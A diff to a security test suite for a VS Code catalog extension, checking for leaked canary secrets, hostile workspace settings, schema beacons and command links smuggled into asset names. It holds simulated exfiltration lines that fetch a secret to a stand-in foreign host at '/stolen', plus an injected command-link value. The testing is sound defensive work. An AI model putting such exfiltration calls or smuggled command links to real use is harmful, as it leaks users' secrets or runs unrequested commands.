@@ -1,4 +1,4 @@
-import { mkdir, writeFile } from 'node:fs/promises';
+import { mkdir, rm, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { findCanaries } from '../support/canaries.js';
@@ -6,7 +6,7 @@ import { startCatalogServer, type CatalogServer } from '../support/catalogServer
 import { openDesk, type Desk } from '../support/desk.js';
 import type { Person } from '../support/person.js';
 import { root } from '../support/setup.mjs';
-import { searchAsProposed, signIn, sweepDesk, userSettings } from './catalogDesk.js';
+import { searchAsProposed, signIn, userSettings } from './catalogDesk.js';
 
 let desk: Desk;
 let server: CatalogServer;
@@ -70,12 +70,12 @@ async function useEverything(person: Person): Promise<void> {
     ['token', '/oauth/token', 200, null], ['search', '/stac/search', 200, '5'], ['search', '/stac/search', 200, '5'],
   ]);
   expect(foreign.journal).toEqual([]);
-  expect(await sweepDesk(desk, [server])).toEqual([]);
+  expect(await desk.sweep()).toEqual([]);
   expect(person.complaints).toEqual([]);
   await person.leave();
 }
 
-it('lets no folder say where a secret goes, trusted or not, nor a workspace file', async () => {
+it('S1 S2 S28: lets no folder say where a secret goes, trusted or not, nor a workspace file', async () => {
   const folder = join(desk.folder, 'hostile');
   await mkdir(join(folder, '.vscode'), { recursive: true });
   await writeFile(join(folder, '.vscode', 'settings.json'), JSON.stringify(hostileSettings()));
@@ -91,14 +91,111 @@ it('lets no folder say where a secret goes, trusted or not, nor a workspace file
   for (const place of [folder, file]) await useEverything(await desk.sitDown({ folder: place }));
 });
 
-it('would find a secret that is left somewhere', async () => {
-  const person = await desk.sitDown();
-  await writeFile(join(desk.server.dataFolder, 'data', 'planted.log'), `x ${server.credentials.clientSecret}`);
-  await writeFile(join(desk.folder, 'planted.txt'), Buffer.from(server.credentials.clientSecret, 'utf16le'));
+it('S16: opens an item that names a schema on this machine, and nothing is asked there', async () => {
+  await mkdir(join(desk.folder, '.vscode'));
+  await writeFile(join(desk.folder, '.vscode', 'settings.json'), JSON.stringify({ 'catalogSearch.environment': 'Production' }));
+  const person = await desk.sitDown({ pictures: join(root, 'out', 'ui', 'security-schema') });
+  await signIn(person, server);
+  await person.press('Escape');
+  for (const fault of ['Q64a', 'Q64b']) {
+    server.clearFaults();
+    server.fault(fault);
+    await person.runCommand('Catalog: Search Items...');
+    await person.option('Run search').waitFor();
+    await person.press('Enter');
+    await person.quickInput.waitFor({ state: 'hidden' });
+    await person.waitForViewMessage(/^5 of/);
+    await person.rows().first().click();
+    await person.waitForTab(/\.geojson/);
+    await expect.poll(() => person.visibleText(/\.geojson/)).toContain('beacon.json');
+    await person.page.getByRole('button', { name: /JSON of a Catalog/ }).waitFor();
+    await person.press('ControlOrMeta+Shift+O');
+    await person.option('assets').waitFor();
+    await person.takePicture(fault);
+    await person.press('Escape');
+    await person.runCommand('View: Close All Editors');
+  }
+  // A file of the person's own with such a line is asked for: what is not seen above would have been seen.
+  await writeFile(join(desk.folder, 'own.json'), JSON.stringify({ $schema: `${server.origin}/own-schema.json` }));
+  await person.press('ControlOrMeta+P');
+  await person.type('own.json');
+  await person.option(/^own\.json/).waitFor();
+  await person.press('Enter');
+  await person.waitForTab('own.json');
+  await expect.poll(() => server.journal.filter(({ path }) => path === '/own-schema.json').length).toBeGreaterThan(0);
+  expect(server.journal.map(({ path }) => path).filter((path) => path === '/beacon.json')).toEqual([]);
+  server.clearFaults();
+  await person.leave();
+});
+
+it('S11: makes no link of an asset\'s name in a progress, and runs nothing', async () => {
+  const person = await desk.sitDown({ pictures: join(root, 'out', 'ui', 'security-words') });
+  await signIn(person, server);
+  await person.press('Escape');
+  server.fault('Q70a');
+  await person.runCommand('Catalog: Search Items...');
+  await person.option('Run search').waitFor();
+  await person.press('Enter');
+  await person.waitForViewMessage(/^5 of/);
+  await person.rows().first().click();
+  await person.waitForTab(/\.geojson/);
+  const release = server.hold('other');
+  await person.runCommand('Catalog: Open Asset...');
+  await person.pick(/Open/);
+  const progress = person.notification(/Opening \[Open\] \(command:test\.canary\)/);
+  await progress.waitFor();
+  expect(await progress.locator('a[href], a[data-href], .notification-list-item-message a').count()).toBe(0);
+  await person.takePicture('progress');
+  release();
+  await progress.waitFor({ state: 'hidden' });
+  server.clearFaults();
+  await person.leave();
+});
+
+it('the sweep finds a canary in each place where one could be, and hears the command', async () => {
+  const [secret, typed] = ['planted-canary-4711', 'typed-canary-0815'];
+  const person = await desk.sitDown({ pictures: join(root, 'out', 'ui', 'security-sweep') });
+  const data = join(desk.server.dataFolder, 'data');
+  const plant = async (file: string, text: string | Buffer = `x ${secret}`): Promise<void> => {
+    await mkdir(join(data, file, '..'), { recursive: true });
+    await writeFile(join(data, file), text);
+  };
+  await plant('User/globalStorage/catalog-search.catalog-search/auth/a.json');
+  await plant('User/workspaceStorage/1/state.json');
+  await plant('User/state.vscdb', Buffer.from(secret, 'utf16le'));
+  await plant('User/Backups/1/untitled/a');
+  await plant('logs/1/exthost/output.log', encodeURIComponent(secret));
+  await plant(`User/${secret}.txt`, '');
+  await writeFile(join(desk.folder, 'planted.txt'), Buffer.from(secret).toString('base64'));
+  await person.page.evaluate(`localStorage.setItem('planted', ${JSON.stringify(secret)}); sessionStorage.setItem('planted', ${JSON.stringify(secret)})`);
+  await person.page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(secret)})`);
+  await person.page.evaluate(`fetch('${foreign.origin.replace('http:', 'https:')}/stolen?${secret}', { mode: 'no-cors' }).then(() => undefined, () => undefined)`);
+  await fetch(`${foreign.origin}/stolen`, { headers: { 'x-canary': secret } });
+  // What a person would see: a document that was not saved, and what the editor keeps of it.
+  await person.runCommand('File: New Untitled Text File');
+  await person.page.keyboard.type(typed);
+  await expect.poll(async () => {
+    const found = await findCanaries({ secrets: [typed], folders: [data], pages: [person.page] });
+    return found.some((place) => place.startsWith('page ')) && found.some((place) => /backup|vscode-/iu.test(place));
+  }).toBe(true);
+  const sweep = async (): Promise<readonly string[]> => await findCanaries({
+    secrets: [secret], folders: [data, desk.folder], pages: [person.page], requests: person.requests, servers: [foreign],
+    texts: { output: `x ${secret}`, quiet: 'nothing' },
+  });
+  const places = [
+    /^file User\/globalStorage\/catalog-search/, /^file User\/workspaceStorage/, /^file User\/state\.vscdb/, /^file User\/Backups/, /^file logs/, /^name of User\/planted-canary/,
+    /^file planted\.txt/, /^browser localStorage/, /^browser sessionStorage/, /^browser clipboard/, /^request of a window/, /^request to a foreign host/, /^output$/,
+  ];
+  await expect.poll(async () => {
+    const found = await sweep();
+    return places.filter((place) => !found.some((one) => place.test(one))).map(String);
+  }).toEqual([]);
+  expect(await sweep()).not.toContain('quiet');
   const token = await server.issuer.temporaryToken();
-  await person.page.evaluate(`localStorage.setItem('planted', ${JSON.stringify(token)})`);
-  await person.page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(token)})`);
-  expect([...await sweepDesk(desk, [server])].sort()).toEqual(['browser clipboard', 'browser localStorage', 'file data/planted.log', 'file planted.txt'].map((place) =>
-    place.replace('file data/', 'file ')).sort());
   expect(await findCanaries({ secrets: [], texts: { said: `"${token}"`, quiet: 'nothing' } })).toEqual(['said']);
+
+  expect(await desk.sweep()).toEqual([]);
+  await person.runCommand('Test: Canary');
+  await expect.poll(() => desk.sweep()).toEqual(['the canary command ran 1 times']);
+  await rm(join(desk.server.dataFolder, 'canary-runs.txt'));
 });
